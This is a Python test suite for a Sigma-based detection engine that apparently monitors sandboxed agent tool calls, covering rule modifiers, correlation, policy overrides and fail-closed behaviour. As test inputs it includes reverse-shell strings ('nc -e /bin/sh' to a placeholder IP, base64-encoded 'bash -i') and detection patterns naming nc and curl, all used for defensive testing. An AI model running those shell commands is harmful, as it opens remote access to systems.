"""The Sigma compiler, correlation engine, overrides and runtime detection, on small rule sets."""

from __future__ import annotations

import threading
from pathlib import Path
from typing import Any

import pytest

from corral.detect import Detector, verdict_for
from corral.errors import RuleError
from corral.events import Alert, Event, Level, NetworkConnection, ProcessStart, TraceContext
from corral.policy import DetectionSection, Policy

BASE = """
title: {title}
id: {id}
status: test
description: d
logsource: {{category: {cat}, product: linux}}
detection:
{det}
level: {level}
tags: [attack.t1059]
falsepositives: [none]
"""


def _rule(tmp: Path, det: str, cat: str = "process_creation", level: str = "high", n: int = 1) -> Path:
    rid = f"00000000-0000-4000-8000-{n:012d}"
    body = BASE.format(title=f"rule {n}", id=rid, cat=cat, det=det, level=level)
    p = tmp / f"r{n}.yml"
    p.write_text(body)
    return p


# (detection block, record, expected match)
MODIFIER_CASES: list[tuple[str, dict[str, Any], bool]] = [
    ("  s: {Image|endswith: '/nc'}\n  condition: s", {"Image": "/usr/bin/NC"}, True),
    ("  s: {Image|endswith: '/nc'}\n  condition: s", {"Image": "/usr/bin/ncat"}, False),
    ("  s: {CommandLine|contains|all: ['-e', 'sh']}\n  condition: s", {"CommandLine": "nc -e sh"}, True),
    ("  s: {CommandLine|contains|all: ['-e', 'sh']}\n  condition: s", {"CommandLine": "nc -e x"}, False),
    ("  s: {CommandLine|startswith: 'curl '}\n  condition: s", {"CommandLine": "curl x"}, True),
    ("  s: {CommandLine: 'a*b?d'}\n  condition: s", {"CommandLine": "axxbcd"}, True),
    ("  s: {CommandLine: 'a*b?d'}\n  condition: s", {"CommandLine": "axxbd"}, False),
    ("  s: {CommandLine: 'a\\*b'}\n  condition: s", {"CommandLine": "a*b"}, True),
    ("  s: {CommandLine|re: '^nc\\s+-[a-z]*e'}\n  condition: s", {"CommandLine": "nc -ve x"}, True),
    ("  s: {CommandLine|re: '^NC'}\n  condition: s", {"CommandLine": "nc"}, False),
    ("  s: {CommandLine|re|i: '^NC'}\n  condition: s", {"CommandLine": "nc"}, True),
    ("  s: {CommandLine|cased: 'Foo'}\n  condition: s", {"CommandLine": "foo"}, False),
    ("  s: {DestinationIp|cidr: '10.0.0.0/8'}\n  condition: s", {"DestinationIp": "10.2.3.4"}, True),
    ("  s: {DestinationIp|cidr: '10.0.0.0/8'}\n  condition: s", {"DestinationIp": "11.2.3.4"}, False),
    ("  s: {DestinationIp|cidr: 'fd00::/8'}\n  condition: s", {"DestinationIp": "fd00:ec2::254"}, True),
    (
        "  s: {CommandLine|base64offset|contains: 'bash -i'}\n  condition: s",
        {"CommandLine": "echo YmFzaCAtaSA+JiAv | base64 -d"},
        True,
    ),
    ("  s: {CommandLine|base64|contains: 'id'}\n  condition: s", {"CommandLine": "x aWQ= y"}, True),
    ("  s: {CommandLine|windash|contains: ' -e '}\n  condition: s", {"CommandLine": "x /e y"}, True),
    ("  s: {DestinationPort: 3333}\n  condition: s", {"DestinationPort": 3333}, True),
    ("  s: {DestinationPort|gte: 1024}\n  condition: s", {"DestinationPort": 80}, False),
    ("  s: {DestinationPort|lt: 1024}\n  condition: s", {"DestinationPort": 80}, True),
    ("  s: {User: null}\n  condition: s", {"Image": "x"}, True),
    ("  s: {User|exists: true}\n  condition: s", {"User": "root"}, True),
    ("  s: {Initiated: 'true'}\n  condition: s", {"Initiated": True}, True),
    ("  s: {ParentImage|fieldref: Image}\n  condition: s", {"Image": "/a", "ParentImage": "/A"}, True),
    (
        "  a: {Image|endswith: '/a'}\n  b: {Image|endswith: '/b'}\n  condition: 1 of them",
        {"Image": "/b"},
        True,
    ),
    ("  s_1: {Image: '/a'}\n  s_2: {User: root}\n  condition: all of s_*", {"Image": "/a"}, False),
    ("  a: {Image: '/a'}\n  f: {User: root}\n  condition: a and not f", {"Image": "/a", "User": "x"}, True),
    ("  a: {Image: '/a'}\n  b: {Image: '/b'}\n  condition: (a or b) and not a", {"Image": "/b"}, True),
    ("  k: ['evil*thing', 'other']\n  condition: k", {"CommandLine": "an EVIL big thing"}, True),
    ("  k: ['nope']\n  condition: k", {"CommandLine": "an evil thing"}, False),
    ("  s: {argv: '-e'}\n  condition: s", {"argv": ["nc", "-e", "sh"]}, True),
    ("  s: {argv|startswith: '--ex'}\n  condition: s", {"argv": ["nc", "-e"]}, False),
    ("  s: {CommandLine|contains: ['x', 'y']}\n  condition: s", {"CommandLine": ["a", "y"]}, True),
]


@pytest.mark.parametrize(("det", "rec", "expected"), MODIFIER_CASES)
def test_modifiers_and_conditions(tmp_path: Path, det: str, rec: dict[str, Any], expected: bool) -> None:
    d = Detector.load([_rule(tmp_path, det)])
    assert d.load_report.problems == [], d.load_report.summary()
    assert bool(d.evaluate("process_creation", rec)) is expected


def test_image_index_does_not_hide_other_rules(tmp_path: Path) -> None:
    _rule(tmp_path, "  s: {Image|endswith: ['/nc', '/ncat']}\n  condition: s", n=1)
    _rule(tmp_path, "  s: {CommandLine|contains: 'evil'}\n  condition: s", n=2)
    d = Detector.load([tmp_path])
    rec = {"Image": "/bin/ncat", "CommandLine": "ncat evil"}
    assert {r.title for r in d.evaluate("process_creation", rec)} == {"rule 1", "rule 2"}
    assert {r.title for r in d.evaluate("process_creation", {"Image": "/bin/ls", "CommandLine": "evil"})} == {
        "rule 2"
    }


def test_bad_files_stop_the_load_and_can_be_audited(tmp_path: Path) -> None:
    (tmp_path / "broken.yml").write_text("title: [unclosed\n")
    (tmp_path / "nocond.yml").write_text(
        "title: x\nlogsource: {category: process_creation}\ndetection: {s: {a: 1}}\n"
    )
    _rule(tmp_path, "  s: {Image: '/a'}\n  condition: s", n=3)
    with pytest.raises(RuleError) as exc:
        Detector.load([tmp_path])
    files = {Path(pr.file or "").name for pr in exc.value.problems}
    assert files == {"broken.yml", "nocond.yml"}
    assert all(pr.line is not None for pr in exc.value.problems)
    d = Detector.load([tmp_path], strict=False)  # auditing a pack: what loads, and why the rest did not
    assert d.load_report.loaded == 1
    assert {p.kind for p in d.load_report.problems} == {"invalid"}
    assert len(d.load_report.problems) == 2
    assert all(p.path.endswith(("broken.yml", "nocond.yml")) for p in d.load_report.problems)


CORR = """
title: base
id: 00000000-0000-4000-8000-0000000000aa
name: base_denied
status: test
logsource: {{category: network_connection, product: linux}}
detection:
  s: {{decision: denied}}
  condition: s
level: low
---
title: burst
id: 00000000-0000-4000-8000-0000000000bb
status: test
correlation:
  type: {kind}
  rules: [base_denied]
  group-by: [episode_id]
  timespan: 60s
  condition: {cond}
level: high
"""


def _net(t_s: float, episode: str, port: int = 443, decision: str = "denied") -> Event:
    return Event(
        time_ns=int(t_s * 1e9),
        sandbox_id="sb",
        ctx=TraceContext(run_id="r", episode_id=episode, step=3, turn=1, tool_call_id="tc9"),
        data=NetworkConnection(
            Protocol="tcp", DestinationIp="10.0.0.1", DestinationPort=port, decision=decision
        ),
    )


def _fired(d: Detector, ev: Event) -> list[Alert]:
    return [e.data for e in d.observe(ev) if isinstance(e.data, Alert) and e.data.title == "burst"]


def test_event_count_fires_at_threshold_not_below(tmp_path: Path) -> None:
    (tmp_path / "c.yml").write_text(CORR.format(kind="event_count", cond="{gte: 4}"))
    d = Detector.load([tmp_path])
    assert d.load_report.problems == []
    fired = [bool(_fired(d, _net(i, "e1"))) for i in range(7)]
    assert fired == [False, False, False, True, False, False, False]  # the window restarts after firing
    assert not _fired(d, _net(8, "e1", decision="allowed"))


def test_event_count_window_expires(tmp_path: Path) -> None:
    (tmp_path / "c.yml").write_text(CORR.format(kind="event_count", cond="{gte: 3}"))
    d = Detector.load([tmp_path])
    assert not _fired(d, _net(0, "e1"))
    assert not _fired(d, _net(30, "e1"))
    assert not _fired(d, _net(100, "e1"))  # the first two fell out of the 60 s window
    assert not _fired(d, _net(101, "e2"))  # another episode is another group
    assert not _fired(d, _net(102, "e1"))
    assert _fired(d, _net(103, "e1"))


def test_value_count_counts_distinct_values(tmp_path: Path) -> None:
    (tmp_path / "c.yml").write_text(CORR.format(kind="value_count", cond="{gte: 3, field: DestinationPort}"))
    d = Detector.load([tmp_path])
    assert not _fired(d, _net(0, "e1", 22))
    assert not _fired(d, _net(1, "e1", 22))
    assert not _fired(d, _net(2, "e1", 80))
    (alert,) = _fired(d, _net(3, "e1", 443))
    assert alert.matched == {
        "episode_id": "e1",
        "count": 3,
        "rules": ["00000000-0000-4000-8000-0000000000aa"],
    }


def test_base_rule_of_correlation_does_not_alert_but_correlation_carries_context(tmp_path: Path) -> None:
    (tmp_path / "c.yml").write_text(CORR.format(kind="event_count", cond="{gte: 2}"))
    d = Detector.load([tmp_path])
    assert d.observe(_net(0, "e1")) == []
    (ev,) = d.observe(_net(1, "e1"))
    assert ev.ctx.episode_id == "e1" and ev.ctx.tool_call_id == "tc9" and ev.sandbox_id == "sb"
    assert isinstance(ev.data, Alert) and ev.data.level is Level.high


def test_temporal_needs_every_rule_in_window(tmp_path: Path) -> None:
    rules = tmp_path / "t.yml"
    rules.write_text(
        CORR.format(kind="temporal", cond="{gte: 2}").replace(
            "rules: [base_denied]", "rules: [base_denied, b2]"
        )
        + """---
title: b2
id: 00000000-0000-4000-8000-0000000000cc
name: b2
status: test
logsource: {category: process_creation, product: linux}
detection:
  s: {Image|endswith: '/curl'}
  condition: s
level: low
"""
    )
    d = Detector.load([tmp_path])
    assert d.load_report.problems == []
    ctx = TraceContext(episode_id="e1")
    proc = Event(
        time_ns=int(5e9), ctx=ctx, data=ProcessStart(ProcessId=1, Image="/usr/bin/curl", CommandLine="curl")
    )
    assert not _fired(d, _net(0, "e1"))
    assert [a.title for a in (e.data for e in d.observe(proc)) if isinstance(a, Alert)] == ["burst"]


def test_runtime_process_event_payload_is_inspected() -> None:
    d = Detector.builtin()
    ev = Event(
        ctx=TraceContext(run_id="r", episode_id="e", tool_call_id="t1"),
        sandbox_id="sb",
        host="10.1.2.3",
        seq=17,
        data=ProcessStart(
            ProcessId=9,
            Image="/usr/bin/python3",
            CommandLine="python3 -c ...",
            argv=["python3", "-c", "import os; os.system('nc -e /bin/sh 203.0.113.5 4444')"],
        ),
    )
    alerts = d.observe(ev)
    assert alerts and all(a.ctx.tool_call_id == "t1" and a.host == "10.1.2.3" for a in alerts)
    assert {a.data.category for a in alerts if isinstance(a.data, Alert)} >= {"reverse_shell"}
    assert all(a.data.source_seq == 17 for a in alerts if isinstance(a.data, Alert))


def test_policy_overrides_exceptions_disable_and_levels(tmp_path: Path) -> None:
    d = Detector.builtin()
    cmd = "ssh -N -L 5432:db.internal:5432 bastion"
    (rid,) = d.inspect_command(cmd, ctx=TraceContext()).rules
    pol = Policy().with_overrides(
        detection={"exceptions": {rid: [{"CommandLine|contains": "db.internal:5432"}]}}
    )
    assert Detector.from_policy(pol).inspect_command(cmd, ctx=TraceContext()).verdict == "allow"
    assert Detector.from_policy(pol).inspect_command("ssh -R 80:x:80 h", ctx=TraceContext()).rules == [rid]
    pol = Policy().with_overrides(detection={"level_overrides": {rid: "low"}})
    assert Detector.from_policy(pol).inspect_command(cmd, ctx=TraceContext()).verdict == "alert"
    pol = Policy().with_overrides(detection={"disabled_rules": [rid]})
    assert Detector.from_policy(pol).inspect_command(cmd, ctx=TraceContext()).verdict == "allow"


def test_extra_rule_paths_and_maturity(tmp_path: Path) -> None:
    _rule(tmp_path, "  s: {Image|endswith: '/frobnicate'}\n  condition: s", level="medium")
    pol = Policy().with_overrides(detection={"rule_paths": [str(tmp_path)], "builtin_maturity": []})
    d = Detector.from_policy(pol)
    assert len(d.rules) == 1
    r = d.inspect_command("frobnicate --now", ctx=TraceContext())
    assert (r.verdict, r.level) == ("alert", Level.medium)


@pytest.mark.parametrize(
    ("level", "action"),
    [
        (None, "allow"),
        (Level.informational, "allow"),
        (Level.low, "alert"),
        (Level.medium, "alert"),
        (Level.high, "block"),
        (Level.critical, "block"),
    ],
)
def test_default_verdicts(level: Level | None, action: str) -> None:
    assert verdict_for(level, Policy.default().detection) == action


def test_disabled_detection_allows() -> None:
    sec = DetectionSection(enabled=False)
    assert verdict_for(Level.critical, sec) == "allow"


def test_inspection_fails_closed_on_internal_error(monkeypatch: pytest.MonkeyPatch) -> None:
    import corral.detect._detector as mod

    def boom(*a: Any, **k: Any) -> None:
        raise RuntimeError("bug")

    monkeypatch.setattr(mod, "analyze", boom)
    r = Detector.builtin().inspect_command("ls", ctx=TraceContext())
    assert r.verdict == "block" and r.rules == ["corral.inspection_error"]


def test_observe_is_thread_safe(tmp_path: Path) -> None:
    (tmp_path / "c.yml").write_text(CORR.format(kind="event_count", cond="{gte: 100}"))
    d = Detector.load([tmp_path])
    fired: list[int] = []

    def work() -> None:
        for i in range(250):
            fired.extend(1 for _ in _fired(d, _net(i / 1000, "e1")))

    threads = [threading.Thread(target=work) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(fired) == 10  # 1000 events, one alert per 100, none lost or doubled


def test_sigma_filter_file_is_an_override_hook(tmp_path: Path) -> None:
    d = Detector.builtin()
    cmd = "ssh -N -L 5432:db.internal:5432 bastion"
    (rid,) = d.inspect_command(cmd, ctx=TraceContext()).rules
    (tmp_path / "allow.yml").write_text(
        f"""title: Allow the task's database tunnel
id: 0a0b0c0d-0000-4000-8000-000000000001
logsource: {{category: process_creation, product: linux}}
filter:
  rules: [{rid}]
  selection:
    CommandLine|contains: 'db.internal:5432'
  condition: not selection
"""
    )
    d = Detector.from_policy(Policy().with_overrides(detection={"rule_paths": [str(tmp_path)]}))
    assert d.load_report.problems == []
    assert d.inspect_command(cmd, ctx=TraceContext()).verdict == "allow"
    assert d.inspect_command("ssh -N -L 5432:other:5432 bastion", ctx=TraceContext()).verdict == "block"


@pytest.mark.parametrize(
    "text",
    ["git remote add " * 7000, "env | " * 17000, "cat x | " * 12000, "x\n" * 50000, "for " * 25000],
    ids=["git", "env", "pipes", "lines", "for"],
)
def test_crafted_commands_cannot_stall_inspection(text: str) -> None:
    import time

    d = Detector.builtin()
    # CPU time of this process, not wall time: other processes on a busy machine must not fail it.
    # A backtracking regex on this input runs for minutes; RE2 (linear time) takes well under a second.
    t = time.process_time()
    d.inspect_command(text, ctx=TraceContext())
    assert time.process_time() - t < 3.0
